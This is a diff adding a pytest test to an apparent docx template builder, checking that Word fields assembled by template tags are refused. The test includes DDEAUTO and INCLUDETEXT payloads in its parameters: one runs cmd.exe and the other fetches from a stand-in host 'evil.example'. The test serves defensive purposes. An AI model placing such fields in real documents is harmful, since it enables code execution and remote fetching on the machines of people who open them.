@@ -419,3 +419,24 @@ def test_blocks_nested_too_deeply_to_compile_are_a_finding_not_an_internal_error
         Renderer(TemplateSet(firm)).render(deal, spec)
     [finding] = refused.value.findings
     assert finding.code == "DD306" and "nest too deeply" in finding.message, str(finding)
+
+
+FIELD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {} </w:instrText>'
+         '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+@pytest.mark.parametrize("code", ['{{ "DDE" }}AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
+                                  '{{ "INCLUDE" ~ "TEXT" }} "http://evil.example/x"'])
+def test_a_field_that_fetches_put_together_by_tags_is_refused_and_nothing_is_written(tmp_path, code):
+    """The hostile sweep: the template's XML showed no DDEAUTO or INCLUDETEXT (DD302 reads it before rendering),
+    but its tags wrote one: the build wrote an escrow agreement running cmd.exe when opened, and check said
+    'no problems found'."""
+    from test_template_check import broken_copy
+
+    firm = tmp_path / "firm"
+    broken_copy(firm, "escrow-agreement.docx", ("<w:body>", "<w:body>" + FIELD.format(code)))
+    result = Builder(templates_dir=firm, output_dir=tmp_path / "out").build(BRIDGE)
+    refused = [f for f in result.findings if f.code == "DD302"]
+    assert not result.ok and refused and refused[0].location.document == "escrow-agreement.docx", \
+        [str(f) for f in result.findings]
+    assert "fetches from outside" in refused[0].message and not (tmp_path / "out").exists()
